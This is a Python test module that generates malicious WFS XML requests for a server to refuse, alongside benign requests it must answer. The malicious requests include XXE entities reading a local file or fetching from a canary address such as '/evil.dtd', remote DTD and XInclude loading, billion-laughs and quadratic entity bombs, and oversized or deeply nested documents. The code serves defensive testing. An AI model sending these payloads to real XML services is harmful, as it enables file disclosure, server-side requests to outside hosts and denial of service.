"""XML nobody means well with, as WFS requests: the list of reliability test 16, GeoServer's reports of 2023 to 2025."""

from __future__ import annotations

from pathlib import Path

from tests.faults.asking import Wish

WFS = "http://www.opengis.net/wfs/2.0"
FES = "http://www.opengis.net/fes/2.0"
GML = "http://www.opengis.net/gml/3.2"
_SPACES = (
    f'xmlns="{WFS}" xmlns:fes="{FES}" xmlns:gml="{GML}" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" service="WFS" version="2.0.0"'
)
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
SECRET = "geoapp-canary-6f2d"


def _feature(filtered: str = "", attributes: str = "") -> str:
    return f'<GetFeature {_SPACES} count="1" {attributes}><Query typeNames="streets">{filtered}</Query></GetFeature>'


def _named(value: str) -> str:
    return (
        "<fes:Filter><fes:PropertyIsEqualTo><fes:ValueReference>name</fes:ValueReference>"
        f"<fes:Literal>{value}</fes:Literal></fes:PropertyIsEqualTo></fes:Filter>"
    )


def _typed(document_type: str, value: str) -> bytes:
    return f"{_HEAD}<!DOCTYPE GetFeature {document_type}>{_feature(_named(value))}".encode()


def _bomb(levels: int) -> str:
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels)]
    return f"[{''.join(lines)}]"


def _nested(depth: int, name: str) -> str:
    return f"<fes:{name}>" * depth + f"</fes:{name}>" * depth


def hostile(canary: str, file: Path) -> list[Wish]:
    """Return requests that must be refused; ``canary`` is an address nobody may call, ``file`` one nobody may read."""
    quadratic = f'[<!ENTITY a "{"a" * 60_000}">]'
    remote = f'[<!ENTITY % remote SYSTEM "{canary}/evil.dtd"> %remote;]'
    attributes = " ".join(f'a{n}="x"' for n in range(600_000))
    bodies: dict[str, bytes | str] = {
        "DTD": _typed("[<!ELEMENT GetFeature ANY>]", "x"),
        "DTD by http": _typed(f'SYSTEM "{canary}/evil.dtd"', "x"),
        "DTD, public": _typed(f'PUBLIC "-//X//Y" "{canary}/evil.dtd"', "x"),
        "XXE by file": _typed(f'[<!ENTITY x SYSTEM "{file.as_uri()}">]', "&x;"),
        "XXE by http": _typed(f'[<!ENTITY x SYSTEM "{canary}/xxe">]', "&x;"),
        "XXE by parameter entity": _typed(remote, "x"),
        "XXE in UTF-16": _typed(f'[<!ENTITY x SYSTEM "{canary}/u">]', "&x;").decode().encode("utf-16"),
        "XXE in UTF-7": _typed(f'[<!ENTITY x SYSTEM "{canary}/u">]', "&x;").replace(b"UTF-8", b"UTF-7"),
        "bomb, a thousand million": _typed(_bomb(10), "&a9;"),
        "bomb, quadratic": _typed(quadratic, "&a;" * 20_000),
        "10,000 deep": _HEAD + _nested(10_000, "Not"),
        "10,000 deep filter": _HEAD + _feature(f"<fes:Filter>{_nested(10_000, 'Not')}</fes:Filter>"),
        "200 deep filter": _HEAD + _feature(f"<fes:Filter>{_nested(200, 'And')}</fes:Filter>"),
        "50 MB": _HEAD + _feature(_named("x" * 50_000_000)),
        "7 MB of elements": _HEAD + _feature(f"<fes:Filter>{'<fes:And/>' * 700_000}</fes:Filter>"),
        "as many elements as the bound": _HEAD
        + _feature(f"<fes:Filter>{'<fes:And/>' * 49_000}</fes:Filter>"),
        "7,900 attributes": f"{_HEAD}<GetFeature {' '.join(attributes.split()[:7_900])}/>",
        "7,900 name spaces": f"{_HEAD}<GetFeature {' '.join(f'xmlns:{a}' for a in attributes.split()[:7_900])}/>",
        "7 MB of attributes": f"{_HEAD}<GetFeature {attributes}/>",
        "GBK": f'<?xml version="1.0" encoding="GBK"?>{_feature(_named("祖庙路"))}'.encode("gbk")[:-30],
        "GBK without saying so": _feature(_named("祖庙路")).encode("gbk"),
        "not XML": b"\x89PNG\r\n\x1a\n" * 1000,
        "by reference": f'{_HEAD}<GetFeature {_SPACES}><Query xlink:href="{canary}/query.xml"/></GetFeature>',
        "stored query by reference": f'{_HEAD}<GetFeature {_SPACES}><StoredQuery id="{canary}/query.xml"/></GetFeature>',
        "XInclude": f'{_HEAD}<GetFeature {_SPACES}><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="{canary}/x"/></GetFeature>',
        "geometry by reference": _HEAD
        + _feature(
            "<fes:Filter><fes:Intersects><fes:ValueReference>geom</fes:ValueReference>"
            f'<gml:Polygon srsName="EPSG:4490" xlink:href="{canary}/g"/></fes:Intersects></fes:Filter>'
        ),
        "reference system by address": _HEAD
        + _feature(
            "<fes:Filter><fes:BBOX><fes:ValueReference>geom</fes:ValueReference>"
            f'<gml:Envelope srsName="{canary}/crs"><gml:lowerCorner>1 1</gml:lowerCorner>'
            "<gml:upperCorner>2 2</gml:upperCorner></gml:Envelope></fes:BBOX></fes:Filter>"
        ),
    }
    return [
        Wish(name, "/wfs", body=body if isinstance(body, bytes) else body.encode())
        for name, body in bodies.items()
    ]


def harmless(canary: str) -> list[Wish]:
    """Return requests that name foreign addresses where standards allow it: answered, and nobody is called."""
    place = f'xsi:schemaLocation="{WFS} {canary}/wfs.xsd"'
    gbk = f'<?xml version="1.0" encoding="GBK"?>{_feature(_named("祖庙路"))}'.encode("gbk")
    return [
        Wish("schemaLocation", "/wfs", body=f"{_HEAD}{_feature(attributes=place)}".encode()),
        Wish(
            "no schema, by address",
            "/wfs",
            body=f"{_HEAD}{_feature(attributes=f'xsi:noNamespaceSchemaLocation={chr(34)}{canary}/x.xsd{chr(34)}')}".encode(),
        ),
        Wish(
            "stylesheet", "/wfs", body=f'{_HEAD}<?xml-stylesheet href="{canary}/s.xsl"?>{_feature()}'.encode()
        ),
        Wish("GBK, well formed", "/wfs", body=gbk),
    ]
